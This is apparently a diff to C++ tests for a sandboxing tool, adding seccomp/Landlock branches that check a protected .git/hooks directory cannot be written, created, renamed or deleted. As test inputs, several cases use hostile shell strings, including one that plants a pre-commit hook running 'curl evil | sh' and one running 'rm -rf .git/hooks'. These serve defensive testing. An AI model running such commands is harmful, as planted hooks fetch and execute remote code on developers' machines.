@@ -27,6 +27,13 @@ TEST_CASE("protected .git/hooks that exists: no hook can be written") {
     Scenario s;
     fs::create_directories(s.ws() / ".git" / "hooks");
     auto r = s.sh("echo 'curl evil | sh' > .git/hooks/pre-commit", kProtectHooks);
+    if (under_seccomp()) {
+        // Landlock cannot keep a path read-only inside a writable root: airlock refuses.
+        require_refused_by_sandbox(r, (s.ws() / ".git/hooks").string());
+        CHECK_FALSE(fs::exists(s.ws() / ".git/hooks/pre-commit"));
+        CHECK(s.sh("echo '[core]' > .git/config").exit_code == 0);  // unprotected, it runs
+        return;
+    }
     require_sandboxed(r);
     CHECK(r.exit_code != 0);
     CHECK(contains(field(r, "stderr"), "Read-only file system"));
@@ -42,6 +49,12 @@ TEST_CASE("protected .git/hooks that does not exist yet cannot be created, and l
     fs::create_directories(s.ws() / ".git");
     auto r =
         s.sh("mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit", kProtectHooks);
+    if (under_seccomp()) {
+        require_refused_by_sandbox(r, (s.ws() / ".git/hooks").string());
+        CHECK_FALSE(fs::exists(fs::symlink_status(s.ws() / ".git/hooks")));
+        CHECK(s.sh("mkdir -p .git/info").exit_code == 0);
+        return;
+    }
     require_sandboxed(r);
     CHECK(r.exit_code != 0);
     // No hook, and no placeholder left on the host after the call.
@@ -64,6 +77,7 @@ TEST_CASE("a protected directory cannot be renamed away or replaced") {
           "rm -rf .git/hooks"}) {
         CAPTURE(attack);
         auto r = s.sh(attack, kProtectHooks);
+        if (under_seccomp()) require_refused_by_sandbox(r, (s.ws() / ".git/hooks").string());
         CHECK(r.exit_code != 0);
         CHECK(read_text(s.ws() / ".git/hooks/pre-commit.sample") == "sample\n");
         CHECK_FALSE(fs::exists(s.ws() / ".git/hooks/pre-commit"));
@@ -73,19 +87,26 @@ TEST_CASE("a protected directory cannot be renamed away or replaced") {
     CHECK(fs::is_directory(s.ws() / ".git/hooks"));
     // Positive control: an unprotected sibling directory can be renamed.
     fs::create_directories(s.ws() / ".git" / "info");
-    auto ok = s.sh("mv .git/info .git/info-old", kProtectHooks);
+    auto ok = s.sh("mv .git/info .git/info-old", under_seccomp() ? "" : kProtectHooks);
     CHECK(ok.exit_code == 0);
     CHECK(fs::exists(s.ws() / ".git/info-old"));
 }
 
 TEST_CASE("two concurrent sandboxes keep each other's placeholder for a missing protected path") {
     Scenario s;
+    if (under_seccomp()) {
+        // No placeholders without mounts: the policy is refused (see the scenario above).
+        fs::create_directories(s.ws() / ".git");
+        require_refused_by_sandbox(s.sh("true", kProtectHooks), ".git/hooks");
+        CHECK(s.sh("mkdir -p .git/hooks").exit_code == 0);  // positive control: unprotected
+        return;
+    }
     fs::create_directories(s.ws() / ".git");
     const fs::path policy = s.outside() / "protect.json";
     write_text(policy, allow_all_policy(kProtectHooks + R"(, "limits": {"timeout_seconds": 60})"));
     auto run = [&](const std::string& script) {
         return s.airlock({"exec", "--json", "--no-builtin-policy", "--policy", policy.string(),
-                          "--", "sh", "-c", script});
+                          "--sandbox", adapter_under_test(), "--", "sh", "-c", script});
     };
     const fs::path hooks = s.ws() / ".git/hooks";
     // A holds its sandbox open until the test says B is done, then tries to create the hook.
